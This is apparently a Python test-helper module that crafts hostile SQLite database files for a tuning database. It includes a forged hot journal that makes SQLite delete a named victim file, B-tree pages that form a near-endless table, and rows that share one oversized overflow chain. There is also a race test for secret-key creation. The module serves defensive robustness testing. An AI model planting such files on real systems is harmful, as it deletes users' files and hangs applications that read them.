"""Files that attack whoever reads them with SQLite: journals that name a victim, tables without an end."""

from __future__ import annotations

import os
import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

from ttc_llvm.tuning.database import signing

TABLE = "solutions_v2"
PAGE = 4096
LOCK_PAGE = (0x40000000 // PAGE) + 1
MAGIC = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"  # of journals


def journal(database: Path, victim: Path) -> Path:
    """Puts a hot journal beside a database; SQLite removes the file that it names as its super-journal."""
    name = str(victim).encode()
    head = MAGIC + struct.pack(">IIIII", 0, 1, 6, 512, PAGE)
    total = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
    tail = struct.pack(">I", LOCK_PAGE) + name + struct.pack(">II", len(name), total) + MAGIC
    path = database.with_name(f"{database.name}-journal")
    path.write_bytes(head.ljust(512, b"\0") + tail)
    return path


def endless(database: Path, depth: int = 6) -> None:
    """Makes a table of one row one of 400 ** depth rows, by interior pages all of whose children are one page."""
    data, root, number = _opened(database)
    leaf = bytes(data[(root - 1) * PAGE : root * PAGE])
    data[(root - 1) * PAGE : root * PAGE] = _interior([(number + 1, 1)] * 400, number + 1)
    for level in range(depth):
        data += _interior([(number + 2 + level, 1)] * 400, number + 2 + level)
    _written(database, data + leaf)


def amplified(database: Path, rows: int = 40, size: int = 8 << 20) -> None:
    """Makes many rows of one, whose long plan lies in pages that all of them share."""
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        connection.execute(f"UPDATE {TABLE} SET plan = ?", ("x" * size,))
        connection.execute("VACUUM")
    data, root, number = _opened(database)
    start = (root - 1) * PAGE
    (at,) = struct.unpack_from(">H", data, start + 8)
    cell = bytes(data[start + at : start + PAGE])
    payload, behind = _varint(cell, 0)
    least = (PAGE - 12) * 32 // 255 - 23
    local = least + (payload - least) % (PAGE - 4)
    local = local if local <= PAGE - 35 else least
    identifier = behind  # of one byte: rows are few
    cell = cell[: identifier + 1 + local + 4]
    for row in range(rows):
        data += _leaf(cell[:identifier] + bytes([row + 1]) + cell[identifier + 1 :])
    children = [(number + 1 + row, row + 1) for row in range(rows)]
    data[start : start + PAGE] = _interior(children[:-1], children[-1][0])
    _written(database, data)


HOSTILE: dict[str, Callable[[Path], None]] = {"endless": endless, "amplified": amplified}


def _opened(database: Path) -> tuple[bytearray, int, int]:
    """The bytes of a database whose one table has lost its indices, its root page, and how many pages there are."""
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        connection.execute(f"DROP INDEX IF EXISTS {TABLE}_problem")
        ((root,),) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (TABLE,)).fetchall()
    data = bytearray(database.read_bytes())
    return data, root, len(data) // PAGE


def _written(database: Path, data: bytearray) -> None:
    data[28:32] = struct.pack(">I", len(data) // PAGE)
    database.write_bytes(data)


def _interior(children: list[tuple[int, int]], last: int) -> bytes:
    """A page of a table: (page, largest row) of each child, and the last child."""
    page, at = bytearray(PAGE), PAGE
    for place, (child, row) in enumerate(children):
        at -= 5
        page[at : at + 5] = struct.pack(">IB", child, row)
        page[12 + 2 * place : 14 + 2 * place] = struct.pack(">H", at)
    page[:12] = struct.pack(">BHHHBI", 5, 0, len(children), at, 0, last)
    return bytes(page)


def _leaf(cell: bytes) -> bytes:
    page, at = bytearray(PAGE), PAGE - len(cell)
    page[at:] = cell
    page[:10] = struct.pack(">BHHHBH", 13, 0, 1, at, 0, at)
    return bytes(page)


def _varint(data: bytes, at: int) -> tuple[int, int]:
    value = 0
    while True:
        value = value << 7 | data[at] & 127
        at += 1
        if not data[at - 1] & 128:
            return value, at


def agree_on_a_secret(place: Path) -> None:
    """Processes that ask for the user's secret at one moment get one, which is the only file beside their folder."""
    gate, out = place / "gate", place / "out"
    out.mkdir()

    def child(number: int) -> int:
        pid = os.fork()
        if pid == 0:
            while not gate.exists():
                pass
            (out / str(number)).write_bytes(signing.own_secret() or b"")
            os._exit(0)
        return pid

    children = [child(number) for number in range(8)]
    gate.touch()
    assert [os.waitpid(pid, 0)[1] for pid in children] == [0] * 8
    (secret,) = {one.read_bytes() for one in out.iterdir()}
    assert len(secret) == 32
    assert [one.name for one in (place / "state" / "ttc_llvm").iterdir()] == ["secret"]
